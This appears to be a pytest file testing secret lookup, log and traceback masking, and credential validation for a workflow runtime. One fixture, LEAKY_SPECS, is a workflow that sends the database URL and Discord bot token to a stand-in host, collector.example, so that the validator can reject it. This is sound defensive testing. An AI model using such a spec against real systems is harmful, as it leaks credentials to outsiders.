"""Secrets come only from HLB_SECRET_<NAME> and HLB_SECRETS_DIR; a missing one fails its step; exact masking.

The workflow runs call a real aiohttp server on 127.0.0.1 and record to the embedded Postgres
(helpers from ``test_workflows``); the provider is exercised on real files.
"""

from __future__ import annotations

import asyncio
import io
import json
import logging
import os
from pathlib import Path

import cli_inprocess
import psycopg
import pytest
from test_workflows import SECRETIVE, Recorder, custom_specs, invocation, rows, serve

from hlb.runtime.secrets import MIN_MASKED, MaskSecrets, SecretMissing, Secrets, Vault, lookup
from hlb.runtime.workflows import run_workflow

MISSING = "secret {0} is not provided: set HLB_SECRET_{0} or add the file {0} to HLB_SECRETS_DIR"

# --- the provider ---------------------------------------------------------------------------------


def test_lookup_reads_the_prefixed_variable_then_the_file(tmp_path: Path) -> None:
    (tmp_path / "FROM_FILE").write_text("file-value\n\n", encoding="utf-8")  # one newline stripped
    (tmp_path / "BOTH").write_text("file-loses", encoding="utf-8")
    (tmp_path / "CRLF").write_bytes(b"crlf-value\r\n")
    (tmp_path / "EMPTY").write_text("\n", encoding="utf-8")
    (tmp_path / "DIR").mkdir()
    env = {
        "HLB_SECRETS_DIR": str(tmp_path),
        "HLB_SECRET_BOTH": "env-wins",
        "HLB_SECRET_BLANK": "",
        "PLAIN": "not-a-secret",
        "DISCORD_TOKEN": "bot-token-value",
        "HLB_SECRET_DATABASE_URL": "postgresql://hlb:pw@db/hlb",
    }
    (tmp_path / "DISCORD_TOKEN").write_text("bot-token-file", encoding="utf-8")
    assert lookup("FROM_FILE", env) == "file-value\n"
    assert lookup("BOTH", env) == "env-wins"
    assert lookup("CRLF", env) == "crlf-value"
    for name in ("EMPTY", "DIR", "BLANK", "PLAIN", "DISCORD_TOKEN", "DATABASE_URL", "NOWHERE"):
        assert lookup(name, env) is None, name
    for name in ("../HLB_SECRETS_DIR", "from_file", "a/b", "", "FROM_FILE/"):
        assert lookup(name, env) is None, name
    assert lookup("FROM_FILE", {}) is None


def test_a_symlinked_file_is_read_like_a_kubernetes_mount(tmp_path: Path) -> None:
    data = tmp_path / "..data"
    data.mkdir()
    (data / "TOKEN").write_text("mounted-value\n", encoding="utf-8")
    (tmp_path / "TOKEN").symlink_to(data / "TOKEN")
    os.mkfifo(tmp_path / "FIFO")  # never opened: only regular files are secrets
    env = {"HLB_SECRETS_DIR": str(tmp_path)}
    assert lookup("TOKEN", env) == "mounted-value"
    assert lookup("FIFO", env) is None


def test_secrets_keep_nothing_but_their_own_variables_and_never_show_them() -> None:
    env = {"HLB_SECRET_API": "api-secret-value", "HLB_SECRETS_DIR": "/nowhere", "HOME": "/root",
           "DISCORD_TOKEN": "bot-token-value", "DATABASE_URL": "postgresql://hlb:db-password-1@db/hlb"}
    secrets = Secrets.from_env(env)
    assert dict(secrets.env) == {"HLB_SECRET_API": "api-secret-value", "HLB_SECRETS_DIR": "/nowhere"}
    assert set(secrets.credentials) == {"bot-token-value", "db-password-1"}
    assert "secret-value" not in repr(secrets) and "bot-token" not in repr(secrets)
    with pytest.raises(SecretMissing) as caught:
        secrets.require("DISCORD_TOKEN")
    assert str(caught.value) == MISSING.format("DISCORD_TOKEN")


def test_masking_covers_secrets_and_credentials_but_never_short_ordinary_text(tmp_path: Path) -> None:
    (tmp_path / "FILE_KEY").write_text("file-key-value", encoding="utf-8")
    env = {
        "HLB_SECRET_SHORT": "abc",
        "HLB_SECRET_LONG": "long-secret-value",
        "HLB_SECRETS_DIR": str(tmp_path),
        "SHLVL": "1",  # an ordinary short environment value: never a mask
        "DISCORD_TOKEN": "MTIz.bot-token-value",
        "HLB_DATABASE_URL": "postgresql://hlb:pg-pass-word@db:5432/hlb",
        "PGPASSWORD": "pw",  # short: masked only as a whole text
    }
    secrets = Secrets.from_env(env)
    text = "abcdef 1 at long-secret-value, MTIz.bot-token-value and pg-pass-word; file-key-value"
    assert secrets.mask(text) == "abcdef 1 at ***, *** and ***; file-key-value"  # the file is not read yet
    assert secrets.get("FILE_KEY") == "file-key-value"
    assert secrets.mask("got file-key-value") == "got ***"
    assert secrets.mask("abc") == "***" and secrets.mask("pw") == "***" and secrets.mask("1") == "1"
    assert secrets.holds("abc") and not secrets.holds("abcdef") and not secrets.holds("x1x")
    assert secrets.holds("x MTIz.bot-token-value x") and len("abc") < MIN_MASKED
    vault = Vault(secrets)
    assert vault.scrub(vault.protect("${secret:LONG} long-secret-value")) == "${secret:LONG} ***"


def test_log_lines_and_tracebacks_are_masked_by_the_filter() -> None:
    secrets = Secrets.from_env({"HLB_SECRET_API": "api-secret-value", "DISCORD_TOKEN": "MTIz.bot-token-value",
                                "SHLVL": "1"})
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.addFilter(MaskSecrets(secrets))
    logger = logging.getLogger("hlb.test_secrets")
    logger.addHandler(handler)
    logger.propagate = False
    try:
        logger.warning("event=x token=%s key=%r n=%d", "MTIz.bot-token-value", "api-secret-value", 1)
        try:
            raise RuntimeError("failed with api-secret-value")
        except RuntimeError:
            logger.exception("event=fault")
    finally:
        logger.removeHandler(handler)
    text = stream.getvalue()
    assert "event=x token=*** key='***' n=1" in text and "RuntimeError: failed with ***" in text
    assert "bot-token" not in text and "api-secret-value" not in text


# --- workflow runs --------------------------------------------------------------------------------

UNPROVIDED = """\
apiVersion: hlb/v1
kind: Workflow
name: unprovided
spec:
  steps:
    - {id: first, http: {url: "BASE/first"}}
    - {id: call, http: {url: "BASE/no", headers: {X-Ok: "${secret:ENV_KEY}", X-Key: "${secret:PLAIN_KEY}"}}}
    - reply: never
"""


def environment(tmp_path: Path) -> dict[str, str]:
    folder = tmp_path / "run-secrets"
    folder.mkdir()
    (folder / "API").write_text("file-api-0123456789\n", encoding="utf-8")
    return {
        "HLB_SECRETS_DIR": str(folder),
        "HLB_SECRET_ENV_KEY": "env-key-0123456789",
        "PLAIN_KEY": "plain-environment-value",  # bare names: not where secrets come from
        "API": "wrong-bare-api",
        "DISCORD_TOKEN": "MTIz.bot-token-0123456789",
        "SHLVL": "1",
    }


def test_a_file_in_the_secrets_dir_feeds_requests_and_masking_is_exact(tmp_path: Path, db_url: str) -> None:
    async def main() -> None:
        async with serve() as server, await psycopg.AsyncConnection.connect(db_url, autocommit=True) as conn:
            objs = custom_specs(tmp_path, SECRETIVE, server.base)
            server.status["/down"] = 503
            secrets = Secrets.from_env(environment(tmp_path))
            effects = Recorder()
            inv = invocation(objs, "leaky", note="1", password="x", pasted="see MTIz.bot-token-0123456789")
            result = await run_workflow(inv, effects, http=server.session, secrets=secrets, conn=conn)
            hook, _down = server.seen
            assert "token=file-api-0123456789&" in hook["url"]
            assert hook["headers"]["Authorization"] == "Bearer file-api-0123456789"
            assert json.loads(hook["body"]) == {"key": "file-api-0123456789", "note": "1"}
            # the secret is masked; a short ordinary value ("1", from SHLVL) never is
            assert result.error == f"step 'fail' failed: HTTP 503 from {server.base}/down?token=***&q=1"
            (row,) = rows(db_url)
            assert row["inputs"] == {"note": "1", "password": "***", "pasted": "***"}  # the bot token, masked
            for value in ("file-api-0123456789", "bot-token"):
                assert value not in row["whole"] and value not in repr(result)

    asyncio.run(main())


def test_a_missing_secret_fails_its_step_sends_nothing_and_is_recorded(tmp_path: Path, db_url: str) -> None:
    async def main() -> None:
        async with serve() as server, await psycopg.AsyncConnection.connect(db_url, autocommit=True) as conn:
            objs = custom_specs(tmp_path, UNPROVIDED, server.base)
            secrets = Secrets.from_env(environment(tmp_path))
            effects = Recorder()
            inv = invocation(objs, "unprovided")
            result = await run_workflow(inv, effects, http=server.session, secrets=secrets, conn=conn)
            message = MISSING.format("PLAIN_KEY")
            assert (result.status, result.error) == ("error", f"step 'call' failed: {message}")
            assert [s["path"] for s in server.seen] == ["/first"]  # no request without all its secrets
            assert effects.calls == []
            (row,) = rows(db_url)
            assert (row["status"], row["error"]) == ("error", f"step 'call' failed: {message}")
            assert [s["status"] for s in row["steps"]] == ["ok", "error"]

    asyncio.run(main())


# --- the command line -----------------------------------------------------------------------------

LEAKY_SPECS = """\
apiVersion: hlb/v1
kind: Guild
name: home
spec: {id: "123456789012345678"}
---
apiVersion: hlb/v1
kind: Workflow
name: leak
spec:
  steps:
    - http:
        url: "https://collector.example/${HLB_DATABASE_URL}"
        headers: {Authorization: "Bot ${DISCORD_TOKEN}", X-Key: "${secret:DISCORD_TOKEN}"}
    - reply: "key: ${secret:API_TOKEN}"
"""


def test_validate_refuses_credentials_and_misplaced_secrets_without_reading_them(tmp_path: Path) -> None:
    (tmp_path / "specs").mkdir()
    (tmp_path / "specs" / "leak.yaml").write_text(LEAKY_SPECS, encoding="utf-8")
    drop = ("HLB_NO_CACHE", "DATABASE_URL")
    env = {k: v for k, v in os.environ.items() if k not in drop}
    password, token = "pg-pass-0123456789", "MTIz.bot-token-0123456789"
    env.update(
        HLB_HOME=str(tmp_path / "home"),
        HLB_DATABASE_URL=f"postgresql://hlb:{password}@127.0.0.1:1/hlb",
        DISCORD_TOKEN=token,
        HLB_SECRET_API_TOKEN="api-token-0123456789",
    )
    done = cli_inprocess.hlb(env, tmp_path, "validate", "specs")
    assert done.returncode == 1, done.stdout + done.stderr
    found = sorted(
        (place.rsplit(":", 3)[:2], code)
        for place, code, _ in (line.split(" ", 2) for line in done.stdout.splitlines() if ": E5" in line)
    )
    assert found == [  # the url, both headers (a compile-time token, a secret named like it), the reply
        (["specs/leak.yaml", "12"], "E506"),
        (["specs/leak.yaml", "13"], "E506"),
        (["specs/leak.yaml", "13"], "E506"),
        (["specs/leak.yaml", "14"], "E507"),
    ]
    assert "${secret:" in done.stdout and "HLB_SECRET_" in done.stdout and "Traceback" not in done.stderr
    cached = b"".join(p.read_bytes() for p in (tmp_path / "home").rglob("*") if p.is_file())
    for value in (password, token, "api-token-0123456789"):
        assert value not in done.stdout + done.stderr
        assert value.encode() not in cached
